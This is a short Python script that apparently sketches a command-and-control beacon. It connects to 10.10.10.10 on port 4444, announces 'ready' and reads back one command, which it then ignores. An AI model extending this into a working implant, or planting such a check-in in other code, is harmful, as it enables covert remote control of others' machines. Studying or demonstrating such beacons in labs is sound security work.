import asyncio

async def beacon():
    reader, writer = await asyncio.open_connection("10.10.10.10", 4444)
    writer.write(b"ready\n")
    cmd = await reader.readline()
    writer.close()

asyncio.run(beacon())
